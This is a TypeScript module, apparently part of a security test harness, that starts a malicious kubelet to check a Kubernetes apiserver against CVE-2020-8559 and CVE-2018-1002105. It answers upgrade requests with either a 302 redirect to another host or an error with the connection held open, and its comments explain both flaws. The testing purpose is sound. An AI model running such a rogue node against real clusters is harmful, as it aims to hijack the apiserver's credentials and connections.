// `redirect` and `failed-upgrade`: a malicious kubelet (or whoever answers for its address) testing the two
// old holes of the apiserver's upgrade-aware proxy.
// - CVE-2020-8559 (and CVE-2018-1002102): answer exec/attach/portforward upgrades with a 302 to another host.
//   An apiserver that followed it would carry the user's stream — and its own kubelet credentials — there.
// - CVE-2018-1002105: answer an upgrade with an error and keep the connection open. An apiserver that kept it
//   open too let the client send a second request down the backend connection, authenticated as the apiserver.
// Kubernetes (apimachinery util/proxy/upgradeaware.go) reads the backend's answer before touching the client:
// any non-101 below 400 becomes a 500 "invalid upgrade response: status code N" and the backend's headers
// (its Location) go nowhere; a 4xx/5xx is copied to the client and both connections are closed.
import type { Logger } from 'pino';
import { startRogueKubelet, type RogueKubelet, type RogueStrategy } from '../rogue-node/rogue-kubelet.ts';

/** How the malicious kubelet answers upgrades. */
export type MaliciousUpgradeMode =
  /** `302 Found` with `Location: <location>` + the request's path and query. */
  | { kind: 'redirect'; location: string }
  /** `<status>` (default 403) with a body, and the connection held open to see whether more arrives. */
  | { kind: 'failed-upgrade'; status?: number; body?: string };

/** The malicious kubelet's settings. */
export interface MaliciousKubeletOptions {
  listen: { host: string; port: number };
  tls: { cert: string; key: string };
  mode: MaliciousUpgradeMode;
  logger?: Logger;
}

/** The body of the default failed upgrade. */
export const FAILED_UPGRADE_BODY = 'upgrade refused; this connection stays open\n';

/** The strategy of `mode`: upgrades get the attack, plain requests a 404. */
export function maliciousUpgradeStrategy(mode: MaliciousUpgradeMode): RogueStrategy {
  return ({ target, upgrade }) => {
    if (!upgrade) return { status: 404, body: '404 page not found\n' };
    if (mode.kind === 'redirect') return { status: 302, headers: { location: new URL(target, mode.location).href }, body: '' };
    return { status: mode.status ?? 403, body: mode.body ?? FAILED_UPGRADE_BODY, holdOpen: true };
  };
}

/** Start the malicious kubelet. */
export function startMaliciousKubelet(options: MaliciousKubeletOptions): Promise<RogueKubelet> {
  return startRogueKubelet({ listen: options.listen, tls: options.tls, strategy: maliciousUpgradeStrategy(options.mode), logger: options.logger });
}
